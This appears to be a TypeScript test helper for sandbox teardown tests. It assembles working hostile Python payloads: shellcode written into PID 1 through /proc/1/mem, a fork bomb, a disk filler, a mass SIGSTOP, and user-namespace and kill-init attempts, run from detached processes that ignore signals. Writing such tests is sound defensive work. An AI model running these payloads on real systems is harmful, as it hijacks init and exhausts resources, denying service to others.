// The hostile tool of the ending tests: it tries to take over process 1 of its sandbox, and leaves
// processes that try to stay.

import { attack } from './arena.ts'

/**
 * Overwrites the code that process 1 returns to: it drops its death signal and sleeps for ever.
 * x86-64 and aarch64.
 */
const TAKE_OVER = `
import platform
CODE = {
    'x86_64': 'bf0100000031f6b89d0000000f05b8220000000f05ebf7',
    'aarch64': '200080d2010080d2e81480d2010000d4000080d2010080d2020080d2030080d2280980d2010000d4faffff17',
}[platform.machine()]
def take_over():
    try:
        pc = int(open('/proc/1/syscall').read().split()[-1], 16)
        with open('/proc/1/mem', 'r+b', 0) as memory:
            memory.seek(pc)
            memory.write(bytes.fromhex(CODE))
    except OSError as e:
        return errno.errorcode[e.errno]
    if os.fork() == 0:
        if os.fork() == 0:
            os._exit(0)
        os._exit(0)
    os.wait()
    return 'taken'
`

/** Its other attacks; each runs in a separate process that has left the session. */
export const DEEDS: Readonly<Record<string, string>> = {
  sleeper: 'time.sleep(60)',
  forker: `
    while True:
        try: os.fork()
        except OSError: time.sleep(0.02)`, // dozens of processes that try again; more often takes a whole core
  // It waits for the report of the first process, which it would stop too.
  stopper: `
    os.read(reported[0], 1)
    os.kill(-1, signal.SIGSTOP)
    time.sleep(60)`,
  filler: `
    while True:
        try: open('/workspace/' + str(time.monotonic_ns()), 'wb').write(b'x' * 65536)
        except OSError: time.sleep(0.01)`,
  mapper: `
    for path in ('/proc/self/uid_map', '/proc/1/uid_map', '/proc/self/setgroups'):
        attempt(lambda: open(path, 'w').write('0 0 1'))
    call('unshare', 0x10000000)
    os.system('kill -STOP 1; kill -KILL 1')
    time.sleep(60)`,
}

/** `rest` is the last action of its first process. */
export const tool = (word: string, deeds: readonly string[], rest: string): string[] =>
  attack(`
# ${word}
import signal, time
${TAKE_OVER}
print('init ' + take_over(), flush=True)
reported = os.pipe()
def apart(deed):
    try: pid = os.fork()
    except OSError: return # the forker has all its processes
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            for n in (1, 2, 15): signal.signal(n, signal.SIG_IGN)
            deed()
        os._exit(0)
${deeds.map((deed) => `def ${deed}():\n    ${DEEDS[deed]?.trim() ?? ''}\napart(${deed})`).join('\n')}
time.sleep(0.05)
print('ready', flush=True)
os.write(reported[1], b'.')
${rest}`)

export const SLEEP = 'time.sleep(60)'
